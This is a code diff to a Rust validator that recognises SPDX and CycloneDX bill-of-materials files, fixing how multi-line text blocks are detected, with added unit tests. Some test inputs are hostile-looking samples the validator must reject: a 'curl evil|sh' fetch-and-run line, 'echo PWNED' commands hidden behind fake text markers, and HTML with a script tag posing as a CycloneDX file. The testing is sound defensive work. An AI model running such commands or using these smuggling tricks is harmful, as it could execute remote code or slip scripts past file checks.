@@ -78,11 +78,12 @@ fn is_tag_value(text: &str) -> bool {
     let mut in_text = false;
     text.starts_with("SPDXVersion:")
         && text.lines().all(|line| {
-            let begins = line.contains("<text>");
-            let is_tag = line
-                .split_once(':')
-                .is_some_and(|(tag, _)| !tag.is_empty() && tag.chars().all(|c| c.is_ascii_alphanumeric()));
-            let fits = in_text || line.trim().is_empty() || line.starts_with('#') || is_tag;
+            let is_name = |tag: &str| !tag.is_empty() && tag.chars().all(|c| c.is_ascii_alphanumeric());
+            let value =
+                line.split_once(':').filter(|(tag, _)| is_name(tag)).map(|(_, value)| value.trim_start());
+            let fits = in_text || line.trim().is_empty() || line.starts_with('#') || value.is_some();
+            // A text begins as the value of a tag, and nowhere else: not in a comment.
+            let begins = value.is_some_and(|value| value.starts_with("<text>"));
             in_text = (in_text || begins) && !line.contains("</text>");
             fits
         })
@@ -120,6 +121,10 @@ mod tests {
         assert!(!is("w.cdx.json", r#"{"a": "bomFormat"}"#));
         assert!(!is("w.cdx.json", r#"{"bomFormat": 1}"#));
         assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\ncurl evil|sh\n"));
+        assert!(is("w.spdx", "SPDXVersion: SPDX-2.3\nLicenseText: <text>one\ntwo\n</text>\nSPDXID: x\n"));
+        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\n# <text>\necho PWNED\n# </text>\n"));
+        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\nX: y <text>\necho PWNED\n</text>\n"));
+        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\nX: <text>a</text>\necho PWNED\n"));
         assert!(!is("evil.cdx.xml", "<html><!-- cyclonedx.org/schema/bom --><script>x</script></html>"));
         assert!(!is("run.sh", r#"{"bomFormat": "CycloneDX"}"#));
     }
